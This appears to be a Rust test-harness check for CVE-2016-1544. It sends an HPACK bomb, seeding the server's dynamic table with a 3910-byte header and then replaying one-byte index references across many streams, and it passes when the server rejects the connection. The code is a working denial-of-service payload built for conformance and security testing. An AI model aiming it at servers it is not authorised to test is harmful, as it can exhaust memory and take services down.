//! CVE-2016-1544: header blocks that stay small on the wire but decode to a
//! huge header list.
//!
//! The first request carries an oversized field as a literal, which puts it
//! in the dynamic table. Every later block references that entry again and
//! again, one byte per copy, until the encoded block reaches
//! `max_header_len`.

use async_trait::async_trait;
use bytes::{Bytes, BytesMut};
use h2sec_harness::verify::{unmet, ExpectedOutcome};
use h2sec_harness::{
    Check, CheckContext, CheckError, HpackEncoder, StreamIds, StreamLedger, TestCase, TestGroup,
};
use h2sec_traits::{ErrorCode, Event, HeaderField, HeadersParam};
use tracing::{debug, info};

const REQUIREMENT: &str = "HTTP/2 stream represents request-response cycles and once closed.";

/// Length of the oversized field value; the entry just fits in a default
/// 4096-byte dynamic table next to the request's own fields.
pub const BOMB_VALUE_LEN: usize = 3910;

pub fn group() -> TestGroup {
    let mut group = TestGroup::new("CVE-2016-1544", "HPACK Bomb");
    group.add_case(TestCase::new(
        "Sends request with HPACK bomb",
        REQUIREMENT,
        HpackBomb,
    ));
    group
}

pub struct BombBlocks {
    /// Sent once, on stream 1; seeds the server's dynamic table.
    pub initial: Bytes,
    /// Sent on every further stream.
    pub replay: Bytes,
}

/// Encodes both blocks with one encoder, so `replay` only makes sense to a
/// decoder that has already seen `initial`.
pub fn bomb_blocks(common: &[HeaderField], max_header_len: usize) -> BombBlocks {
    let bomb = HeaderField::new("bomb", "A".repeat(BOMB_VALUE_LEN));
    let mut fields = common.to_vec();
    fields.push(HeaderField::new("content-length", "5"));
    fields.push(bomb.clone());

    let mut encoder = HpackEncoder::default();
    let initial = encoder.encode(&fields);

    let mut replay = BytesMut::new();
    for field in &fields {
        encoder.encode_field(field, &mut replay);
    }
    while replay.len() < max_header_len {
        encoder.encode_field(&bomb, &mut replay);
    }

    BombBlocks {
        initial,
        replay: replay.freeze(),
    }
}

/// Streams opened after the first one: bounded by the requests left and by
/// the streams the server lets us keep open besides stream 1.
pub fn replay_count(requests: usize, stream_budget: usize) -> usize {
    requests
        .saturating_sub(1)
        .min(stream_budget.saturating_sub(1))
}

pub struct HpackBomb;

#[async_trait]
impl Check for HpackBomb {
    async fn run(&self, ctx: CheckContext) -> Result<(), CheckError> {
        let mut conn = ctx.connect().await?;
        conn.handshake().await?;

        let blocks = bomb_blocks(&ctx.config.common_headers(), ctx.config.max_header_len);
        let mut ids = StreamIds::new();
        let mut ledger = StreamLedger::new();

        let first = ids.next_id();
        conn.write_headers(HeadersParam {
            stream_id: first,
            end_stream: true,
            end_headers: true,
            block: blocks.initial,
        })
        .await?;
        ledger.open(first);

        let budget = ctx
            .config
            .stream_budget(conn.settings().max_concurrent_streams());
        let replays = replay_count(ctx.config.requests, budget);
        info!(
            replays,
            block_len = blocks.replay.len(),
            "replaying bomb block"
        );

        for _ in 0..replays {
            let stream_id = ids.next_id();
            let written = conn
                .write_headers(HeadersParam {
                    stream_id,
                    end_stream: true,
                    end_headers: true,
                    block: blocks.replay.clone(),
                })
                .await;
            if let Err(err) = written {
                // the server hung up on the bomb
                info!(stream_id, error = %err, "write rejected");
                return Ok(());
            }
            ledger.open(stream_id);
        }

        let expected = [
            ExpectedOutcome::ConnectionClosed,
            ExpectedOutcome::GoAway(ErrorCode::PROTOCOL_ERROR),
        ];
        loop {
            let event = conn.wait_event().await;
            match &event {
                Event::ConnectionClosed => return Ok(()),
                Event::RstStream { stream_id, .. } => {
                    ledger.close(*stream_id);
                }
                Event::WindowUpdate { .. }
                | Event::Headers {
                    end_stream: false, ..
                }
                | Event::Data {
                    end_stream: false, ..
                } => {}
                Event::GoAway { error_code, .. } => {
                    if let Err(err) = conn.close().await {
                        debug!(error = %err, "close failed");
                    }
                    if *error_code == ErrorCode::PROTOCOL_ERROR {
                        return Ok(());
                    }
                    return Err(unmet(&expected, &event));
                }
                _ => match event.ends_stream() {
                    Some(stream_id) => {
                        ledger.close(stream_id);
                    }
                    None => return Err(unmet(&expected, &event)),
                },
            }

            if ledger.is_empty() {
                conn.close().await?;
                return Ok(());
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn common() -> Vec<HeaderField> {
        vec![
            HeaderField::new(":method", "GET"),
            HeaderField::new(":scheme", "http"),
            HeaderField::new(":path", "/"),
            HeaderField::new(":authority", "127.0.0.1:80"),
        ]
    }

    #[test]
    fn replay_block_reaches_max_len() {
        for max in [0, 1, 4000, 16_384] {
            let blocks = bomb_blocks(&common(), max);
            assert!(blocks.replay.len() >= max);
        }
    }

    #[test]
    fn replay_block_is_mostly_index_bytes() {
        let blocks = bomb_blocks(&common(), 4000);
        assert!(blocks.initial.len() > BOMB_VALUE_LEN);
        // every field of the first block is in a table by now
        let tail = &blocks.replay[blocks.replay.len() - 100..];
        assert!(tail.iter().all(|&b| b == 0x80 | 62));
    }

    #[test]
    fn replay_count_respects_both_bounds() {
        assert_eq!(replay_count(1000, 100), 99);
        assert_eq!(replay_count(10, 100), 9);
        assert_eq!(replay_count(1, 100), 0);
        assert_eq!(replay_count(1000, 1), 0);
        for requests in 0..20 {
            for budget in 0..20 {
                let count = replay_count(requests, budget);
                assert!(count <= requests.saturating_sub(1));
                assert!(count <= budget);
            }
        }
    }
}
